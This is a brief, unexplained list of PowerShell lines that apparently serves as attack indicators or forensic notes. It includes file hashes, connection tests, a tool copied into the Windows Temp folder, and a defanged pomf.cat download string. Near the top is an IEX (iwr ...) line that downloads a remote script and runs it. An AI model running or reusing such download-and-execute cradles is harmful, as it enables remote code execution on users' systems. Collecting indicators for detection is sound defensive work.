PS C:\> (New-Object Net.WebClient).DownloadString('https://a.pomf[.]cat/ntluca.txt')
IEX (iwr 'http://ps.example.com/a.ps1' -UseBasicParsing); $u="http://ps.example.com/b"
[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.SecurityProtocolType]::Tls12
SHA256          6527C9361A2F469C5275AFCB5D06E53013367CD231995DE13DC7218711388382       C:\Users\a\x.exe
Algorithm : MD5   Hash : 8812C36AA5AE336C2A77BF63211D899A
RemoteAddress : 104.1.2.3
TcpTestSucceeded 2606:4700::6810:85e5 443
Test-NetConnection -ComputerName fileserver.example.org -Port 445
Copy-Item \\nas.example.org\share\tool.exe C:\Windows\Temp\tool.exe
FileVersion 10.0.19041.1 (WinBuild.160101.0800)
Thumbprint : D28D2B77FA489AB5252D57C24A900533EB9BAB17
